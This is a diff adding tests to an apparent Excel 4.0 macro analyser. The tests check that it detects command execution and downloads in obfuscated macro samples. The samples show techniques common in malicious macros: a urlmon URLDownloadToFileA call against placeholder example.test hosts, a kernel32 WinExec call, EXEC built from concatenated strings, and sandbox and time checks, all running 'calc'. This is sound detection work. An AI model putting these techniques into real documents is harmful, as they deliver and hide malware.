@@ -246,6 +246,38 @@ def test_guards_are_turned() -> None:
     assert [(item.value, item.confidence) for item in items if isinstance(item, Fact) and item.kind == "effect.run"] == [("calc", 0.8)]
 
 
+def test_every_way_of_chance() -> None:
+    one = '"http://a.example.test/","http://b.example.test/","http://c.example.test/"'
+    cells = {"A1": f'=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,CHOOSE(RANDBETWEEN(1,3),{one}),"C:\\a",0,0)', "A2": "=HALT()"}
+    assert sorted(facts(run(book(cells)), "effect.download")) == [f"http://{n}.example.test/" for n in "abc"]
+
+
+@pytest.mark.parametrize(
+    "cells",
+    [
+        {"A1": "=SELECT(C1)", "A2": '=SET.NAME("s","")', "A3": '=WHILE(ACTIVE.CELL()<>"END")', "A4": '=SET.NAME("s",s&ACTIVE.CELL())',
+         "A5": '=SELECT("R[1]C")', "A6": "=NEXT()", "A7": "=EXEC(s)", "A8": "=HALT()", "C1": "ca", "C2": "lc", "C3": "END"},
+        {"A1": '=FORMULA("=EXEC(R1C3&R[0]C[1])",A3)', "A4": "=HALT()", "C1": "ca", "B3": "lc"},
+        {"A1": '=FORMULA(CHAR(61)&"EXEC("&CHAR(34)&INDIRECT("C"&1)&INDIRECT("R2C3",FALSE)&CHAR(34)&")",A5)', "A6": "=HALT()", "C1": "ca", "C2": "lc"},
+        {"A1": '=GOTO(INDIRECT("R"&(2+3)&"C1",FALSE))', "A2": "=HALT()", "A5": '=EXEC("calc")', "A6": "=HALT()"},
+        {"A1": '=EXEC(SUBSTITUTE("cXaXlXc","X",""))', "A2": "=HALT()"},
+        {"A1": '=FORMULA.ARRAY("=EXEC(""calc"")",A3)', "A2": "=ERROR(FALSE)", "A4": "=HALT()"},
+        {"A1": '=DEFINE.NAME("n","=R1C3")', "A2": "=EXEC(n)", "A3": "=HALT()", "C1": "calc"},
+        {"A1": '=EVALUATE("EXEC(""calc"")")', "A2": "=HALT()"},
+        {"A1": '=CALL("kernel32","WinExec","JCJ","calc",0)', "A2": "=HALT()"},
+        {"A1": '=IF(HOUR(NOW())=23,EXEC("calc"),HALT())', "A2": "=HALT()"},
+        {"A1": '=IF(INDEX(GET.WORKSPACE(37),1)=39,EXEC("calc"),CLOSE(0))', "A2": "=HALT()"},
+    ],
+)  # fmt: skip
+def test_ways_to_a_command(cells: Cells) -> None:
+    assert facts(run(book(cells)), "effect.run") == ["calc"]
+
+
+def test_sheets_are_calculated_again() -> None:
+    cells = {"A1": '=SET.VALUE(Data!A1,"ca")', "A2": "=EXEC(Data!B1)", "A3": "=HALT()"}
+    assert facts(run(book(cells, sheet("Data", {"B1": '=A1&"lc"'}, "worksheet"))), "effect.run") == ["calc"]
+
+
 def test_waiting_ends() -> None:
     cells = {
         "A1": '=WHILE(ISERROR(FILES("C:\\nowhere\\a.txt")))',
